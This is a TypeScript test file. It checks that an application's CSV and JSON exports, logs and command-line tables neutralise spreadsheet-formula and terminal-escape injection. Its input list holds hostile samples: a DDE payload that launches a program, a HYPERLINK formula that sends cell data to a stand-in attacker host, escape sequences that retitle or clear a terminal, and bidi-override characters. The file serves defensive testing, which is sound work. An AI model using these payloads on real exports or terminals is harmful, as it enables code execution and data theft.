/**
 * T14. A user writes a question, and an agent an answer, with what a terminal or a spreadsheet would execute: escape
 * sequences that retitle a window or clear a screen, formulas that fetch an address or run a program, characters that
 * reverse the text direction or end a line. The owner exports the turns, opens them in a spreadsheet or with `cat`, and
 * reads the log.
 *
 * Verified against the real server, store and command line, with fuzzing: no CSV cell begins like a spreadsheet
 * formula, and each stays one cell; no export, log line or table of the command line has a control character; the text
 * can still be read.
 */
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { table } from '../../src/cli/table.ts';
import { escapeInFile } from '../../src/contract/escape.ts';
import { csvLine } from '../../src/http/csv.ts';
import { cliEnv, runCli } from '../cli/run-cli.ts';
import { aPerson, call, runServer } from '../http/running-server.ts';
import { aTurn } from '../store/temporary-store.ts';
import { aToken } from '../support/credentials.ts';
import { startTestGateway } from '../support/gateway.ts';

const orders = [
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("https://evil.example/?"&A1)',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\n=1+1',
  '＝1+1',
  '|calc',
  '%0A=1',
  '"=1+1',
  '";=1+1;"',
  '","=1+1',
  'a\r\n=1+1,b',
  "'=1+1",
  '\u001b]0;owned\u0007',
  '\u001b[2J\u001b[H',
  '\u001b]8;;https://evil.example\u001b\\click',
  '\u009b31m',
  '\u0008\u0008',
  '\u202egnp.exe',
  '\u2066x\u2069',
  'a\u2028b',
  '\ufeff=1+1',
  '\u0000',
  '\u007f',
  '\u000b',
  '\u0085',
];

test('T14: exports have no formulas or control characters, and lose no text', { timeout: 60_000 }, async () => {
  const server = await runServer();
  const owner = await aPerson(server, { subject: 'olga', role: 'owner' });
  const said: string[] = [];
  for (const order of orders) {
    const asked = await call(server, 'POST', '/api/turns', {
      headers: owner.bearer,
      json: { message: `${order} ` },
    });
    if (asked.status !== 202) continue; // empty once it was made safe
    said.push((await server.store.turns.get(asked.json.turnId))?.message ?? '');
    const over = Promise.withResolvers<void>();
    const stop = await server.turns.watch((events) => {
      if (events.some(({ event }) => event.type === 'finished')) over.resolve();
    });
    await server.agent.answer(asked.json.turnId, `${order}\n\n${order}`);
    await over.promise;
    stop();
    server.clock.now += 1000;
  }
  expect(said.length).toBeGreaterThan(20);
  const csv = await call(server, 'GET', '/api/admin/turns/export', { headers: owner.bearer });
  expect(csv.headers['content-type']).toContain('text/csv');
  const rows = parseCsv(withoutBom(csv.text));
  const [head = [], ...lines] = rows;
  expect(lines).toHaveLength(said.length);
  for (const line of lines) {
    expect(line).toHaveLength(head.length);
    for (const cell of line) expect(cell).not.toMatch(/^[\s]*[=+\-@|%＝＋－＠]|^\t/);
  }
  expect(csv.text).not.toMatch(CONTROL);
  const messages = lines.map((line) => line[head.indexOf('message')]?.replace(/^'/, ''));
  expect(messages.reverse()).toEqual(said.map(escapeInFile).map((text) => text.replace(/^'/, '')));
  const json = await call(server, 'GET', '/api/admin/turns/export?format=json', { headers: owner.bearer });
  expect(json.text).not.toMatch(CONTROL);
  expect(
    JSON.parse(json.text)
      .map((turn: { message: string }) => turn.message)
      .reverse(),
  ).toEqual(said);
  const audit = await call(server, 'GET', '/api/admin/audit/export', { headers: owner.bearer });
  expect(audit.text).not.toMatch(CONTROL);
  expect(parseCsv(withoutBom(audit.text)).every((line) => line.length === 12)).toBe(true);
  for (const line of server.log().trim().split('\n')) {
    expect(() => JSON.parse(line)).not.toThrow();
    expect(line).not.toMatch(CONTROL);
    expect(line).not.toMatch(/evil\.example|calc|1\+1/);
  }
});

test('T14: any text is one CSV cell and no formula', () => {
  const text = fc.oneof(fc.constantFrom(...orders), fc.string({ unit: 'binary', maxLength: 30 }));
  fc.assert(
    fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (cells) => {
      const line = csvLine(cells);
      expect(line).not.toMatch(CONTROL);
      const [row = [], ...more] = parseCsv(line);
      expect(more).toEqual([]);
      expect(row).toHaveLength(cells.length);
      for (const [index, cell] of row.entries()) {
        expect(cell).not.toMatch(/^\s*[=+\-@|%＝＋－＠]|^\t/);
        expect(cell.replace(/^'/, '')).toBe(escapeInFile(cells[index] ?? '').replace(/^'/, ''));
      }
    }),
    { numRuns: 2000 },
  );
});

test('T14: a table of the command line has no control characters', () => {
  const printed = table(
    ['user', 'tag'],
    [orders, [...orders].reverse()].map((list) => [list.join('x'), list.join('y')]),
  ).join('\n');
  expect(printed).not.toMatch(CONTROL);
});

test('T14: no command prints a control character, whoever wrote it', { timeout: 120_000 }, async () => {
  await using own = await startTestGateway({ env: { PALIADIN_AGENT: 'none' } });
  const store = await own.store();
  const { users, turns, sessions, audit } = store;
  const name = orders.join('x');
  const { user } = await users.ensure({ subject: `eve${name}`, name, email: name, now: 1 });
  await aToken(store, user.subject, { name, scopes: ['read'], clock: () => 1 });
  await audit.append([
    { at: 1, actor: name, action: 'user.created', subject: user.id, turnId: null, detail: { name } },
  ]);
  const session = await sessions.ofUser(user, { prefix: 'test', host: name, now: 1 });
  const turn = aTurn({ user, session }, { message: name, pageOrigin: name, context: name });
  await turns.insert(turn);
  const feedback = { rating: 'down' as const, comment: name };
  await turns.write([{ turnId: turn.turnId, change: { feedback }, events: [] }]);
  const env = cliEnv(own, { PALIADIN_AGENT: 'none' });
  const commands = [
    ['turns'],
    ['turns', '--json'],
    ['turns', '--user', `nobody${withoutNul}`],
    ['user', 'list'],
    ['user', 'export', `eve${withoutNul}`],
    ['user', 'role', `eve${withoutNul}`, 'admin'],
    ['token', 'list'],
    [withoutNul],
  ];
  for (const args of commands) {
    const { stdout, stderr } = await runCli(env, ...args);
    expect([args[0], stdout.length + stderr.length > 0]).toEqual([args[0], true]);
    expect([args, (stdout + stderr).replaceAll('\n', '').match(UNSEEN)]).toEqual([args, null]);
  }
});

const withoutNul = orders.join('x').replaceAll('\u0000', '');
const UNSEEN = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

// Tab and newline are what they are in a file of text; a carriage return ends a line of CSV.
// biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
const CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]|\r(?!\n)/;

/** The test’s client may have taken it for what it is already. */
function withoutBom(text: string): string {
  return text.replace(/^\ufeff/, '');
}

/** As RFC 4180 says, character by character. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let inQuotes = false;
  for (let at = 0; at < text.length; at++) {
    const character = text[at];
    if (inQuotes) {
      if (character !== '"') cell += character;
      else if (text[at + 1] === '"') {
        cell += '"';
        at++;
      } else inQuotes = false;
    } else if (character === '"') inQuotes = true;
    else if (character === ',') {
      row.push(cell);
      cell = '';
    } else if (character === '\r' && text[at + 1] === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
      at++;
    } else cell += character;
  }
  expect([inQuotes, cell, row]).toEqual([false, '', []]);
  return rows;
}
